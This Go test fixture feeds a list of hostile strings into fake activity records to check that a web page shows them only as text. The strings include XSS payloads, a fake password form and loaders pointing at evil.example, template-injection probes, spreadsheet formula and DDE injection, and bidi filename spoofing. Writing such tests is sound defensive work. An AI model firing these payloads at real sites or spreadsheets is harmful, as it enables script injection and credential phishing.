// Copyright The Integration Log Authors
// SPDX-License-Identifier: Apache-2.0

package pagetest

import (
	"strconv"
	"strings"
	"time"

	"github.com/integrationlog/integrationlog/internal/activity"
)

// hostileTexts would do something if the page took them for anything but text. Where a script
// of theirs ran, it would open a dialog or set window.hostile; what they load lies elsewhere.
var hostileTexts = []string{
	`<script>window.hostile = 1; alert("script")</script>`,
	`<img src="https://evil.example/pixel" onerror="window.hostile = 1; alert('image')">`,
	`"><svg onload="window.hostile = 1; alert('svg')"><iframe src="javascript:alert('frame')"></iframe>`,
	`' onmouseover='window.hostile = 1; alert(1)' x='`,
	`</bdi></a></td></tr></table><h1>Deface</h1><form action="https://evil.example/"><input name="password"></form>`,
	`{{.}} {{define "row"}}{{end}} ${window.hostile = 1} #{7*7} <%= 7*7 %> [[${7*7}]]`,
	`<style>@import url("https://evil.example/x.css"); body { display: none }</style>`,
	`<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`</script><script src="https://evil.example/x.js"></script>]]><!--`,
	"invoice\u202Efdp.exe \u2066hidden\u2069 \u200Fright\u200E left\u061C \uFEFF",
	"=HYPERLINK(\"https://evil.example/\";\"click\")",
	"+1+1\t@SUM(1+1)\n-2+3; =cmd|' /C calc'!A0",
	"line one\nline two\r\nline three\u2028line four\u2029end",
	"null\u0000byte bell\u0007 escape\u001b[31mred delete\u007f",
	"Very long. " + strings.Repeat("Lorem ipsum dolor sit amet, ", 700) + "END",
	strings.Repeat("W", 3000),
	`&lt;b&gt;not bold&lt;/b&gt; &amp;amp; %3Cscript%3E \u003cscript\u003e`,
	"Zalgo " + strings.Repeat("e\u0301\u0300\u0302\u0303\u0308\u0323", 40) + " ﷽ 👩‍👩‍👧‍👦 مرحبا שלום",
	`javascript:window.hostile=1;alert(1)//`,
}

// hostileStart is when the first of the hostile activities happened.
func hostileStart(now time.Time) time.Time { return now.Add(-31 * time.Hour) }

// hostileOf are activities in which every text is hostile, not only the description. No other
// has their kind of error.
func hostileOf(now time.Time) ledger {
	var all ledger
	for i, text := range hostileTexts {
		short := activity.Truncate(text, 200)
		all = append(all, activity.Activity{
			ID: "hostile-" + strconv.Itoa(i) + short, Time: hostileStart(now).Add(time.Duration(i) * time.Second), Product: activity.ZIS, Type: short,
			Status: activity.Error, Evidence: activity.Reported, IntegrationName: short, Account: short, ObjectType: "ticket", ObjectID: short,
			Description: text, HTTPStatusCode: 500, Error: &activity.Failure{Type: activity.ErrorOther, Code: short, Message: activity.Truncate(text, activity.MaxErrorMessage)},
		})
	}
	return all
}
